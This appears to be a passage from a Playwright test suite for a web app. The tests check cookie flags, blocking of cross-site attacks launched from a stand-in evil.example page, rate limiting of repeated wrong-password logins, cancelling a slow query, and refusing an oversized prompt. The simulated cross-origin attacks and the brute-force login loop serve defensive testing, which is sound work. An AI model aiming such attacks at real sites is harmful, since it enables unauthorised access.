        assert any(cookie["secure"] for cookie in cookies)
        assert {cookie["sameSite"] for cookie in cookies} == {"Lax"}
        with other_site(ATTACKS.replace("ADDRESS", f"https://{HOST}:{port}/")) as attacker:
            page.goto(f"http://evil.example:{attacker}/")
            page.wait_for_function("document.title == 'done'")
            seen = page.evaluate("seen")
        assert seen["read"] == seen["join"] == seen["script"] == "blocked"
        if sys.platform == "linux":  # where all of 127.0.0.0/8 is this machine
            assert [wrong_password(port, "127.0.0.2") for _ in range(6)] == [400] * 5 + [429]
            assert wrong_password(port, "127.0.0.3") == 400  # somebody else need not wait


def test_after_a_stop_of_the_first_question_the_next_one_is_answered(visit):
    page = visit("?model=slow")
    ask(page, wait=False)
    page.locator("#noiser-status progress").wait_for()
    page.wait_for_timeout(500)
    page.locator("#noiser-stop").click()
    sync_api.expect(page.locator("#noiser-status")).to_contain_text("Stopped.")
    ask(page)
    sync_api.expect(page.locator("#noiser-result .map")).to_have_count(1)


def test_a_book_as_a_prompt_is_refused_at_once_and_holds_up_nobody(visit):
    reader, other = visit(), visit()
    reader.locator("#noiser-prompt textarea").evaluate(
        "e => { e.value = 'word '.repeat(800000); e.dispatchEvent(new Event('input', { bubbles: true })); }"
    )
    reader.locator("#noiser-run").click()
    ask(other)
    alert = reader.locator("#noiser-status [role=alert]")
    sync_api.expect(alert).to_contain_text("4,000,000 characters; expected at most 200,000")
